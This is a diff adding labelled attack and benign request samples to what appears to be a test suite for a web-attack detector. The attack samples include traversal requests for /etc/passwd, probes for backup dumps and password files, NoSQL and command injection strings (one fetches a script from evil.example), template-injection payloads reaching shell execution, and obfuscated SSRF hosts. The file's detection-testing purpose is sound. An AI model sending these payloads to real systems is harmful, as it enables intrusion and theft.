@@ -138,6 +138,37 @@ ATTACKS = [
     ("format_string", q(base64.b64encode(b"%s%s%s%s").decode(), name="session")),
     ("rce", form(base64.b64encode(b";id|").decode(), name="context")),
     ("xxe", Features.build("GET", "/find", query="token=" + base64.b64encode(b"%foo;").decode().replace("=", "%3D"), headers=[UA])),
+    # a bare query argument (no `=`) that is data, not a flag: read as a value
+    ("traversal", Features.build("GET", "/faxsurvey", query="cat%20/etc/passwd", headers=[UA])),
+    ("traversal", Features.build("GET", "/viewsource", query="/etc/passwd", headers=[UA])),
+    # files no site serves on purpose: database dumps in archives, shell histories, password lists, script
+    # source asked for with a trailing `+`, `.`, space or `::$DATA`, and the servlet container's WEB-INF
+    ("scanner", raw("GET", "/backup.sql.gz")),
+    ("scanner", raw("GET", "/app/dump.sql.r02")),
+    ("scanner", raw("GET", "/db.sqlite_history")),
+    ("scanner", raw("GET", "/passwords.txt")),
+    ("scanner", raw("GET", "/members/spwd.db")),
+    ("scanner", raw("GET", "/admin/cfg/configsite.inc.php+")),
+    ("scanner", raw("GET", "/index.php%20")),
+    ("scanner", raw("GET", "/default.asp::$DATA")),
+    ("scanner", raw("GET", "/WEB-INF./web.xml")),
+    # a body declared JSON that does not parse is read by argument rules too
+    ("nosqli", raw("POST", "/api/login", [("Content-Type", "application/json")], '{"username": {"$gt": undefined}, "password": {"$gt": undefined}}')),
+    # command separators with spaces between them; a command word with shell-like arguments
+    ("rce", q("&& | dir c:\\")),
+    ("rce", q("1 && curl http://evil.example/x.sh")),
+    ("rce", q("x; cat flag.txt")),
+    ("rce", q("& ping -n 10 127.0.0.1")),
+    # template filters handed a callable, and object paths to a runtime
+    ("ssti", q("{{ {'id':'shell_exec'}|map('call_user_func')|join }}")),
+    ("ssti", q("{% for a in [\"error_reporting\", \"1\"]|sort(\"ini_set\") %}{% endfor %}")),
+    ("ssti", form("- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')")),
+    ("ssti", q('<%= [1, 2][elem(System.shell("id"), 0)] %>')),
+    ("ssti", q("{{364|add:733}}")),
+    # internal hosts: an ideographic full stop is a dot in a URL's host; .internal and .localhost names
+    ("ssrf", q("http://\u24ea\u2461\u2464\u2460\u3002\u24ea\u2462\u2466\u2465\u3002\u24ea\u2461\u2464\u2460\u3002\u24ea\u2462\u2466\u2465", name="feed")),
+    ("ssrf", q("http://host.containers.internal/", name="endpoint")),
+    ("ssrf", q("http://example.com.localhost", name="feed")),
 ]
 
 
@@ -213,6 +244,20 @@ BENIGN = [
     ("tutorial-form", form(LONG_DOC, name="body")),
     ("short-base64", q("dGVzdA==", name="state")),  # a padded token that decodes to a word: read, nothing found
     ("short-base64-ids", js({"ids": ["T3JkZXI6MQ==", "VXNlcjo0Mg==", "YWJjZA=="], "etag": "W/\"5e-Xq3k=\""})),
+    ("bare-flags", Features.build("GET", "/page", query="edit&print&id", headers=[UA])),
+    ("bare-route", Features.build("GET", "/index.php", query="/blog/2024/05/select-union-jobs", headers=[UA])),
+    ("bare-javadoc", Features.build("GET", "/doc/index.html", query="org/example/action/search/SearchResponse.html", headers=[UA])),
+    ("site-files", raw("GET", "/downloads/app-1.2.3.tar.gz")),
+    ("search-history-api", raw("GET", "/api/v1/search_history")),
+    ("c++-tag", raw("GET", "/tags/c++")),
+    ("broken-json", raw("POST", "/api/notes", [("Content-Type", "application/json")], '{"note": "price is $5, see you at 5", }')),
+    ("search-and-cat", q("dogs & cat toys")),
+    ("search-and-net", q("gross & net salary calculator")),
+    ("search-and-id", q("tips & id cards")),
+    ("search-and-ping", q("hello & ping me later")),
+    ("search-and-curl", q("hair & curl cream")),
+    ("cjk-prose-url", form("\u6771\u4eac\u306e\u5929\u6c17\u3002http://example.com/\u3002\u3042\u308a\u304c\u3068\u3046\u3002")),
+    ("django-add-filter", form('Total: {{ value|add:"2" }} items')),
     ("jwt-param", q("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMiLCJuYW1lIjoiQW5uYSJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ", name="token")),
 ]
 
